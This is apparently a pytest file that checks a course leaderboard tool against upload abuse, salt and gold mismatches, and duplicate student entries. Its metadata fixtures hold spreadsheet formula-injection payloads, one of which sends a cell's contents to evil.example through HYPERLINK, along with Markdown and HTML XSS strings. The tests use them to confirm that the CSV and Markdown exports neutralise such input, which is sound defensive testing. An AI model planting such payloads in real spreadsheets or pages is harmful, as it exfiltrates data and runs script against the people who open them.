"""The leaderboard against a student gaming it and a TA slipping: an upload of many bad lines grades quickly into a
bounded results.json, an upload over the byte cap is refused naming the cap; the scoreboard's and the batch's CSV
and Markdown carry no formula or markup from names, ids or entry names; the scoreboard checks the salt and gold
against the bundle's recorded fingerprints whether given its zip or its settings.json; and it warns of a student
in two entries."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import DATA
from leaderboard_fixtures import SALT, assert_results_format, dev_labels, write_gold, write_upload
from test_grade_batch import fake_grade, read_rows
from test_grade_batch import write_zip as zip_of

from assignments import bundle, leaderboard, scoreboard, uploads
from assignments.batch import grade_batch
from assignments.leaderboard import SETTINGS_MEMBER, Settings, grade
from assignments.standing import load_dev, load_gold, split_gold


@pytest.fixture(scope="module")
def lb(tmp_path_factory: pytest.TempPathFactory) -> dict:
    base = tmp_path_factory.mktemp("abuse")
    labels = write_gold(base / "gold")
    (base / "salt").write_text(SALT + "\n")
    return {"base": base, "gold_dir": base / "gold", "salt": base / "salt", "labels": labels,
            "tests": split_gold(load_gold(base / "gold", DATA), SALT, 0.5), "dev": load_dev(DATA),
            "dev_labels": dev_labels()}


def test_many_bad_lines_grade_into_a_bounded_results_json(lb, tmp_path):
    up = write_upload(tmp_path / "up", lb["labels"], lb["dev_labels"])
    sst = up / "sst-test-output.csv"
    long_line = "y" * 10_000
    sst.write_text(sst.read_text() + f"{long_line}\n" + "x" * 300 + "\n" * 1 + ("x" * 300 + "\n") * 20_000)
    results = grade(up, lb["tests"], Settings(), lb["dev"])
    assert_results_format(results)
    text = json.dumps(results)
    assert results["score"] == 0 and len(text) < 60_000, len(text)          # was 13 MB: every line, quoted whole
    listed = results["tests"][0]["output"]
    assert "sst-test-output.csv: 20002 lines with errors; 19982 more lines with errors not listed" in listed
    first = f"sst-test-output.csv:{len(lb['labels']['sst']) + 2}: expected 'id , value', got '{'y' * 80}...'"
    assert first in listed and "y" * 81 not in text


@pytest.mark.parametrize("form", ["zip", "folder"])
def test_an_upload_over_the_byte_cap_is_refused_naming_the_cap(lb, tmp_path, form):
    up = write_upload(tmp_path / "up", lb["labels"], lb["dev_labels"])
    sst = up / "sst-test-output.csv"
    sst.write_bytes(sst.read_bytes() + b"\n" * (16 * 2**20))              # blank lines: valid, and slow to read
    if form == "zip":
        with zipfile.ZipFile(tmp_path / "up.zip", "w", zipfile.ZIP_DEFLATED) as z:
            for path in sorted(up.iterdir()):
                z.write(path, arcname=path.name)
        up = tmp_path / "up.zip"
    results = grade(up, lb["tests"], Settings(), lb["dev"])
    assert results["score"] == 0 and "leaderboard" not in results
    assert "more than 16 MiB" in results["output"] and uploads.MAX_BYTES == 16 * 2**20, results["output"]


EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Mallory")', "sid": "+1+2", "email": "@SUM(1+1)"}
MARKUP = "[Eve](javascript:alert(1)) <img src=x onerror=alert(2)> `x` **Eve** _eve_ ~~x~~ snake_case"
METADATA = f"""---
submission_201:
  :submitters:
  - :name: '{EVIL["name"]}'
    :sid: '{EVIL["sid"]}'
    :email: '{EVIL["email"]}'
submission_202:
  :submitters:
  - :name: '{MARKUP}'
    :sid: '-2+3'
    :email: eve@example.edu
"""
ZIP_NAME = '=HYPERLINK("http:__x","y")'


def test_the_scoreboards_csv_and_markdown_carry_no_formula_or_markup(lb, tmp_path, capsys):
    folder = tmp_path / "export"
    write_upload(folder / "submission_201", lb["labels"], {})
    write_upload(folder / "submission_202", lb["labels"], {})
    zip_of(folder / f"{ZIP_NAME}.zip", {"readme.txt": "no predictions"})
    (folder / "submission_metadata.yml").write_text(METADATA)
    argv = [str(folder), "--gold", str(lb["gold_dir"]), "--salt-file", str(lb["salt"]), "--csv",
            str(tmp_path / "board.csv"), "--md", str(tmp_path / "board.md")]
    assert scoreboard.main(argv) == 0
    rows = {r["submission"]: r for r in csv.DictReader(io.StringIO((tmp_path / "board.csv").read_text()))}
    assert (rows["submission_201"]["names"], rows["submission_201"]["sids"], rows["submission_201"]["emails"]) == (
        "'" + EVIL["name"], "'" + EVIL["sid"], "'" + EVIL["email"])
    assert rows["submission_202"]["sids"] == "'-2+3" and rows["submission_202"]["names"] == MARKUP
    bad = rows["'" + ZIP_NAME]
    assert bad["valid"] == "no" and bad["problems"].startswith(f"'{ZIP_NAME}.zip holds no prediction file")
    for row in rows.values():                                          # no cell a spreadsheet reads as a formula
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values()), row
    md = (tmp_path / "board.md").read_text()
    assert not re.search(r"(?<!\\)[][<>`]", md.replace("[Leaderboard", "")), md     # every [ ] < > ` escaped
    assert (r"\[Eve\](javascript:alert(1)) \<img src=x onerror=alert(2)\> \`x\` \*\*Eve\*\* \_eve\_ \~\~x\~\~ "
            "snake_case") in md                                # no link, HTML, code, emphasis; words keep their _
    assert "- **" + ZIP_NAME.replace("__", r"\_\_") + "**" in md and "| 1 | submission_201 |" in md
    from assignments.export import safe_cell
    assert [safe_cell(v) for v in ("-0.5000", "+1", "1e3", "'x", "a=b", "\tx", 7)] == [
        "-0.5000", "+1", "1e3", "''x", "a=b", "'\tx", 7]                # numbers stay numbers


def test_the_batchs_csv_carries_no_formula_and_reads_its_own_cells_back(tmp_path, capsys):
    folder = tmp_path / "export"
    for name in ("submission_201", "submission_202"):
        (folder / name).mkdir(parents=True)
        (folder / name / "model.py").write_text("PASS")
    zip_of(folder / "@evil.zip", {"model.py": "WRONG"})
    (folder / "submission_metadata.yml").write_text(METADATA)
    out, calls = tmp_path / "grades.csv", []
    grade_batch(folder, out, grade_fn=fake_grade(calls), seed=1, as_user="none")
    assert len(calls) == 3
    rows = {r["submission"]: r for r in read_rows(out)}
    assert set(rows) == {"submission_201", "submission_202", "'@evil.zip"}
    assert rows["submission_201"]["names"] == "'" + EVIL["name"] and rows["submission_201"]["sids"] == "'+1+2"
    for row in rows.values():
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values()), row
    before, calls[:] = out.read_text(), []
    grade_batch(folder, out, grade_fn=fake_grade(calls), seed=1, as_user="none")
    assert not calls and out.read_text() == before     # its own cells read back: nothing regraded, no row dropped
    assert "no longer" not in capsys.readouterr().err


def _bundle(lb: dict, tmp_path: Path) -> tuple[Path, Path]:
    files = bundle.leaderboard_files(str(lb["gold_dir"]), str(lb["salt"]), 0, 0.5, 1.0, "full")
    out = bundle.write_zip(tmp_path / "leaderboard.zip", files)
    with zipfile.ZipFile(out) as z:
        (tmp_path / "settings.json").write_bytes(z.read(SETTINGS_MEMBER))
    return out, tmp_path / "settings.json"


def test_the_scoreboard_checks_the_salt_and_gold_fingerprints_whether_given_the_zip_or_settings_json(lb, tmp_path,
                                                                                                     capsys):
    zipped, settings = _bundle(lb, tmp_path)
    recorded = json.loads(settings.read_text())
    assert set(recorded["gold_sha256"]) == {"ids-sst-test.csv", "quora-test.csv", "sts-test.csv"}
    assert len(recorded["salt_sha256"]) == 64 and SALT not in settings.read_text()
    folder = tmp_path / "uploads"
    write_upload(folder / "alice", lb["labels"], {})
    other_salt = tmp_path / "salt2"
    other_salt.write_text("f" * 64 + "\n")
    shuffled = shutil.copytree(lb["gold_dir"], tmp_path / "shuffled")
    head, *body = (shuffled / "ids-sst-test.csv").read_text().splitlines(keepends=True)
    ids = [line.split("\t", 1) for line in body]
    labels = [rest for _, rest in ids][1:] + [ids[0][1]]
    (shuffled / "ids-sst-test.csv").write_text(head + "".join(f"{i}\t{rest}" for (i, _), rest in zip(ids, labels)))

    def board(settings_path: Path, gold: Path = lb["gold_dir"], salt: Path = lb["salt"]) -> tuple[int, str]:
        capsys.readouterr()
        code = scoreboard.main([str(folder), "--gold", str(gold), "--salt-file", str(salt), "--settings",
                                str(settings_path), "--csv", str(tmp_path / "b.csv"), "--md", str(tmp_path / "b.md")])
        said = capsys.readouterr().err.splitlines()                     # without the progress bar
        return code, "".join(f"{line}\n" for line in said if line.startswith(("error:", "note:", "warning:")))
    for given in (zipped, settings):
        assert board(given) == (0, "")
        refused = (f"error: --salt-file {other_salt} is not the salt of {given}: another salt splits the test set "
                   "otherwise than the leaderboard; give the bundle's\n")
        assert board(given, salt=other_salt) == (2, refused)
        code, err = board(given, gold=shuffled)
        assert code == 2 and err.startswith(f"error: {shuffled / 'ids-sst-test.csv'} is not the gold of {given} ("), err
        for salt, gold in ((other_salt, lb["gold_dir"]), (lb["salt"], shuffled)):   # the leaderboard CLI: the same check
            capsys.readouterr()
            code = leaderboard.main([str(folder / "alice"), "--gold", str(gold), "--salt-file", str(salt),
                                     "--settings", str(given), "--out", str(tmp_path / "r.json")])
            err = capsys.readouterr().err
            assert code == 2 and err.startswith("error: ") and f"is not the {'salt' if gold != shuffled else 'gold'} " \
                f"of {given}" in err, err
        assert not (tmp_path / "r.json").exists()
    old = tmp_path / "old-settings.json"
    old.write_text(json.dumps({k: v for k, v in recorded.items() if not k.endswith("_sha256")}))
    code, err = board(old, salt=other_salt)
    assert code == 0 and f"note: {old} records no fingerprint of the salt or the gold" in err, err


DUPLICATES = """---
submission_301:
  :submitters:
  - :name: Ada Lovelace
    :sid: '001'
    :email: ada@example.edu
submission_302:
  :submitters:
  - :name: Ada L.
    :sid: '001'
    :email: ada@example.edu
submission_303:
  :submitters:
  - :name: Bob
    :sid: '002'
    :email: bob@example.edu
  - :name: Ada
    :sid: ''
    :email: ADA@example.edu
submission_304:
  :submitters:
  - :name: Carol
    :sid: '003'
    :email: carol@example.edu
"""


def test_the_scoreboard_warns_of_a_student_in_two_entries_and_ranks_each(lb, tmp_path, capsys):
    folder = tmp_path / "export"
    for name in ("submission_301", "submission_302", "submission_303", "submission_304"):
        write_upload(folder / name, lb["labels"], {})
    (folder / "submission_metadata.yml").write_text(DUPLICATES)
    argv = [str(folder), "--gold", str(lb["gold_dir"]), "--salt-file", str(lb["salt"]), "--csv",
            str(tmp_path / "board.csv"), "--md", str(tmp_path / "board.md")]
    assert scoreboard.main(argv) == 0
    captured = capsys.readouterr()
    warnings = [line for line in captured.err.splitlines() if line.startswith("warning:")]
    assert warnings == ["warning: sid 001 (Ada Lovelace) is in 2 entries: submission_301, submission_302",
                        ("warning: email ada@example.edu (Ada Lovelace) is in 3 entries: submission_301, "
                         "submission_302, submission_303"),
                        ("warning: each entry is ranked as it is, one row each: on Gradescope only a student's active "
                         "submission counts; drop the others from the folder to rank that one alone")], captured.err
    assert "scored 4 uploads (4 valid, 0 not)" in captured.out
